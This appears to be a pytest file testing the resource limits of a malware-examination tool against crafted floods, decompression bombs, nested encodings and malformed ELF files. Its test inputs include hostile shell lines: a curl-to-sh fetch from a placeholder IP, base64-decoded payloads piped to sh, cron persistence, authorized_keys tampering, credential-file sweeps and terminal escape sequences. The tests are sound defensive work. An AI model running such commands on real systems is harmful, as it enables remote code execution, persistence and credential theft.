"""Contents made to crash, stall or flood the examination: it answers, in bounds, and says what it lost."""

from __future__ import annotations

import base64
import gzip
import struct
import time
from pathlib import Path

import pytest

from forensics.examine import Examination, load_signatures
from forensics.examine._decoding import MAX_BLOBS, MAX_BYTES, reveal
from forensics.limits import MIB, Limits
from forensics.model.facts import FileFacts
from tests.elf_objects import ElfObject

SECONDS = 20
"""Far above what is needed, far below what a runaway search takes."""


@pytest.fixture(scope="module")
def examination() -> Examination:
    return Examination(load_signatures())


@pytest.fixture(scope="module")
def impatient() -> Examination:
    return Examination(load_signatures(), Limits(match_seconds=2))


def _texts(facts: FileFacts) -> list[str]:
    texts = [string.text for match in facts.matches for string in match.strings]
    texts += [secret.text for secret in facts.secrets]
    texts += [issue.message for issue in facts.issues]
    if facts.script:
        texts += [facts.script.interpreter, *(seen.text for seen in facts.script.behaviours)]
        texts += [line for hidden in facts.script.decoded for line in hidden.text.split("\n")]
    if facts.elf:
        texts += [*facts.elf.notes, *facts.elf.needed, *(section.name for section in facts.elf.sections)]
    return texts


FLOODS = {
    "downloads": b"curl " * (4 * MIB // 5),
    "pipes": b"curl |" * (4 * MIB // 6),
    "sweeps": b"~/.aws/credentials " * (4 * MIB // 19),
    "keys": b"-----BEGIN PRIVATE KEY-----\n" * (4 * MIB // 28),
    "tokens": b"ghp_" * MIB,
    "base64": b"base64 " + b"A" * (4 * MIB),
    "escapes": b"printf '" + b"\\x41" * MIB,
    "short runs": b"base64 " + b"QUJDREVGR0hJSktMTU5PUFFSU1RVVg== " * (4 * MIB // 33),
    "lines": b"\n" * (4 * MIB),
    "tar": b"tar c" * (4 * MIB // 5),
    "memory": b"echo " * (4 * MIB // 5) + b">> authorized_keys",
    "brackets": b"\\x41" * 1000 + b"(" * MIB,
}


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_of_what_is_searched_for(impatient: Examination, name: str) -> None:
    started = time.process_time()
    facts = impatient.examine(b"#!/bin/sh\n" + FLOODS[name], "0" * 64)
    assert time.process_time() - started < SECONDS
    assert {issue.code for issue in facts.issues} <= {"limit", "timeout"}
    assert facts.lost_bytes == (facts.size if "timeout" in {issue.code for issue in facts.issues} else 0)
    assert facts.type == "script"
    assert facts.script is not None
    assert len(facts.script.behaviours) < 4000
    assert all(len(match.strings) <= Limits().evidence_per_finding for match in facts.matches)


@pytest.mark.parametrize(
    "filler", [b"# words\n", b"\n", b" \n;\n", b"=\n", b"1 1 1 1 ", b"import ", b"\t", b"a" * 70 + b"\n"]
)
def test_a_long_start_does_not_stall_the_guess_of_the_language(impatient: Examination, filler: bytes) -> None:
    started = time.process_time()
    facts = impatient.examine(filler * (MIB // len(filler)) + b"chattr +i /etc/cron.d/x\n", "")
    assert time.process_time() - started < SECONDS
    assert facts.script is not None
    assert [seen.identifier for seen in facts.script.behaviours] == ["immutable"]


def test_a_crowd_of_places_is_said_aloud(examination: Examination) -> None:
    facts = examination.examine(b"#!/bin/sh\n" + b"chattr \n" * 5000 + b"chattr +i /etc/cron.d/x\n", "")
    assert [issue.code for issue in facts.issues] == ["limit"]
    assert "immutable" in facts.issues[0].message
    assert "defense-evasion/immutable" in {match.rule_id for match in facts.matches}


def test_a_bomb_in_a_one_liner_is_cut() -> None:
    bomb = base64.b64encode(gzip.compress(bytes(64 * MIB)))
    started = time.process_time()
    found = reveal(b"echo " + bomb + b" | base64 -d | gunzip | sh\n")
    assert time.process_time() - started < SECONDS
    assert [hidden.encoding for hidden in found] == ["base64+gzip"]
    assert len(found[0].data) == MAX_BYTES


def test_encodings_in_encodings_end() -> None:
    text = b"id; uname -a; hostname; uptime"
    for _ in range(12):
        text = b"echo " + base64.b64encode(text) + b" | base64 -d"
    found = reveal(text)
    assert [hidden.encoding.count(">") for hidden in found] == [0, 1, 2]


def test_many_encoded_runs_are_bounded() -> None:
    run = base64.b64encode(b"echo this is line number one of many") + b"\n"
    assert len(reveal(b"base64 -d\n" + b"; ".join([run] * 1000))) == MAX_BLOBS


def test_sections_that_all_are_the_whole_file(examination: Examination) -> None:
    plain = ElfObject(sections=[(f".s{number}", 1, 2, 0, b"", 0, 0) for number in range(3000)]).build()
    content = bytearray(plain + bytes(8 * MIB))
    table = int.from_bytes(plain[40:48], "little")
    for number in range(1, 3001):
        struct.pack_into("<QQ", content, table + 64 * number + 24, 0, len(content))
    started = time.process_time()
    facts = examination.examine(content, "")
    assert time.process_time() - started < SECONDS
    assert facts.elf is not None
    assert len(facts.elf.sections) == 256
    assert any("3002 sections" in note for note in facts.elf.notes)


def test_nothing_shown_can_steer_a_terminal(examination: Examination) -> None:
    hostile = "\x1b]52;c;aGk=\x07\x9b31m\u202e\u200b"
    script = f"#!/bin/sh {hostile}\ncurl -s http://203.0.113.9/{hostile}x | sh\n".encode(
        "utf-8", "surrogateescape"
    )
    hidden = base64.b64encode(f"echo {hostile} > /etc/cron.d/x\n".encode())
    facts = examination.examine(script + b"echo " + hidden + b" | base64 -d | sh\n", "")
    elf = ElfObject(sections=[(f".te{hostile}xt", 1, 6, 0, b"\x90", 0, 0)]).build()
    facts_of_elf = examination.examine(elf, "")
    texts = _texts(facts) + _texts(facts_of_elf)
    assert facts.matches
    assert len(texts) >= 8
    assert all(text.isprintable() for text in texts)


def test_a_broken_object_is_an_issue_and_still_scanned(examination: Examination) -> None:
    facts = examination.examine(
        b"\x7fELF\x09\x09 UPX! /tmp/kdevtmpfsi main.masscan main.redisBrute main.RC4", ""
    )
    assert facts.elf is None
    assert [issue.code for issue in facts.issues] == ["not-parsed"]
    assert {"defense-evasion/upx-packed", "indicators/kinsing"} <= {match.rule_id for match in facts.matches}


def test_what_lies_beyond_the_limit_is_lost_aloud() -> None:
    examination = Examination(load_signatures(), Limits(scan_bytes=1000))
    facts = examination.examine(b"#!/bin/sh\n" + b"# padding\n" * 200 + b"history -c\n", "")
    assert facts.size == 2021
    assert facts.lost_bytes == 1021
    assert [(issue.code, issue.lost_bytes) for issue in facts.issues] == [("limit", 1021)]


def test_signatures_that_take_too_long_are_stopped(tmp_path: Path) -> None:
    slow = tmp_path / "slow.yar"
    slow.write_text(
        "rule slow { condition: for all a in (0..filesize - 1) :"
        " (for all b in (0..filesize - 1) : (uint8(a) == uint8(b))) }"
    )
    examination = Examination(load_signatures([slow]), Limits(match_seconds=1))
    content = bytes(200_000)
    facts = examination.examine(content, "")
    assert [(issue.code, issue.lost_bytes) for issue in facts.issues] == [("timeout", 200_000)]
    assert facts.lost_bytes == 200_000
    assert facts.entropy == 0.0


def test_after_a_timeout_scripts_are_still_read(tmp_path: Path) -> None:
    slow = tmp_path / "slow.yar"
    slow.write_text(
        "rule slow { condition: for all a in (0..100000) :"
        " (for all b in (0..100000) : (a + b >= uint8(0) - 300)) }"
    )
    examination = Examination(load_signatures([slow]), Limits(match_seconds=1))
    facts = examination.examine(b"#!/bin/sh\nchattr +i /etc/cron.d/x\n", "")
    assert facts.script is not None
    assert [seen.identifier for seen in facts.script.behaviours] == ["immutable"]
